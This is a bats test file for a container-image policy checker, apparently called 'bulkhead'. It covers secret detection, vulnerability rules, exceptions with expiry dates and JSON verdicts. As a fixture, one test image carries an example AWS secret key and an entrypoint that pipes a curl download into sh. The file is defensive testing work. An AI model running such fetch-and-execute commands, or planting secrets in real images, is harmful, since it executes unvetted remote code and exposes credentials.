#!/usr/bin/env bats
# check, policy explain

load lib

prepare_file() {
    mkdir -p "$WORK/layer/var/lib/dpkg" "$WORK/layer/etc"
    cat >"$WORK/layer/var/lib/dpkg/status" <<'STATUS'
Package: openssl
Status: install ok installed
Architecture: amd64
Version: 3.0.1-1

STATUS
    printf 'ID=debian\nVERSION_ID="12"\nVERSION_CODENAME=bookworm\n' >"$WORK/layer/etc/os-release"
    local now
    now=$(date -u +%Y-%m-%dT%H:%M:%SZ)
    "$TREE/tests/lib/make-image" oci "$WORK/good" --top "{\"created\": \"$now\"}" \
        --config '{"User": "nobody", "Entrypoint": ["/usr/bin/openssl"]}' "$WORK/layer" >/dev/null
    "$TREE/tests/lib/make-image" oci "$WORK/secret" --top "{\"created\": \"$now\"}" \
        --config '{"User": "nobody", "Env": ["AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY"],
            "Entrypoint": ["sh", "-c", "curl -s http://x/y | sh"]}' "$WORK/layer" >/dev/null
    mkdir -p "$WORK/osv"
    cat >"$WORK/osv/CVE-2024-1.json" <<'OSV'
{"schema_version": "1.6.0", "id": "CVE-2024-1", "modified": "2024-01-02T00:00:00Z",
 "published": "2024-01-01T00:00:00Z", "summary": "bad",
 "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}],
 "affected": [{"package": {"ecosystem": "Debian:12", "name": "openssl"},
   "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "3.0.2-1"}]}]}]}
OSV
}

@test "an image is let run with honest warnings where vulnerabilities were not checked" {
    run bulkhead check "oci:$WORK/good"
    expect_status 0
    expect_output "allowed with warnings"
    expect_output "Vulnerabilities were not checked"
    expect_output "because image.vulns_checked = false"
}

@test "secrets in the environment and downloads at the start are denied with status 3" {
    run bulkhead check "oci:$WORK/secret"
    expect_status 3
    expect_output "deny  Secret in the image configuration"
    expect_output "deny  Program is downloaded when it starts"
    expect_output "override: {exceptions: append}"
    refute_output "wJalrXUtnFEMI"
}

@test "the exception that is shown lets the image pass, until it expires" {
    bulkhead check "oci:$WORK/secret" --format json >"$WORK/verdict.json" || true
    {
        jq -r '.rules[] | select(.action == "deny") |
            "- rule: \(.rule)\n  exceptions:\n    - name: test\n      condition: >\n        " +
            "\(.matches[0].exception)\n      reason: a test\n      owner: tests\n" +
            "      expires: DAY\n  override: {exceptions: append}"' "$WORK/verdict.json"
    } >"$WORK/template.yaml"
    sed 's/DAY/2999-12-31/' "$WORK/template.yaml" >"$WORK/mine.yaml"
    run bulkhead check --policy default --policy "$WORK/mine.yaml" "oci:$WORK/secret"
    expect_status 0
    expect_output 'exception "test" excuses 1, until 2999-12-31, owner tests: a test'
    sed 's/DAY/2020-01-01/' "$WORK/template.yaml" >"$WORK/old.yaml"
    run bulkhead check --policy default --policy "$WORK/old.yaml" "oci:$WORK/secret"
    expect_status 3
    expect_output 'exception "test" expired and no longer excuses 1'
}

@test "a fixable critical vulnerability is denied, and says what decided" {
    run env BULKHEAD_ROOT="$WORK/advised" "$BULKHEAD" db import "$WORK/osv"
    expect_status 0
    run env BULKHEAD_ROOT="$WORK/advised" "$BULKHEAD" check "oci:$WORK/good"
    expect_status 3
    expect_output "CVE-2024-1 in openssl 3.0.1-1, fixed in 3.0.2-1"
    expect_output "because vuln.severity = critical, vuln.fixed = true"
}

@test "the verdict as JSON has rules, facts and the policy's digest" {
    run bulkhead check --format json "oci:$WORK/secret"
    expect_status 3
    jq -e '.schema == "bulkhead/verdict/1" and .verdict == "deny" and .gate == "run" and
        (.policy.digest | startswith("sha256:")) and
        (.rules[0].matches[0].facts[0].field | length > 0)' <<<"$output"
}

@test "a rule that cannot be decided denies at a deny gate" {
    cat >"$WORK/strict.yaml" <<'YAML'
- rule: No critical vulnerability
  desc: d
  condition: vuln.severity = critical
  gate: run
  action: deny
YAML
    run bulkhead check --policy "$WORK/strict.yaml" "oci:$WORK/good"
    expect_status 3
    expect_output "cannot be decided"
    expect_output "vulnerabilities were not"
}

@test "rules of other gates stay silent" {
    cat >"$WORK/push.yaml" <<'YAML'
- rule: Never pushed
  desc: d
  condition: image.package_count >= 0
  gate: push
  action: deny
YAML
    run bulkhead check --policy "$WORK/push.yaml" "oci:$WORK/good"
    expect_status 0
    run bulkhead check --policy "$WORK/push.yaml" --gate push "oci:$WORK/good"
    expect_status 3
}

@test "a faulty policy decides nothing" {
    printf -- '- rule: x\n  condition: vuln.idd = 1\n  gate: run\n  action: allow\n' >"$WORK/faulty.yaml"
    run bulkhead check --policy "$WORK/faulty.yaml" "oci:$WORK/good"
    expect_status 2
    expect_output "faulty.yaml:2:14"
}

@test "policy explain lists the rules that have nothing to object" {
    run bulkhead policy explain "oci:$WORK/good"
    expect_status 0
    expect_output "pass  Secret in the image configuration"
    expect_output "holds for none of"
}
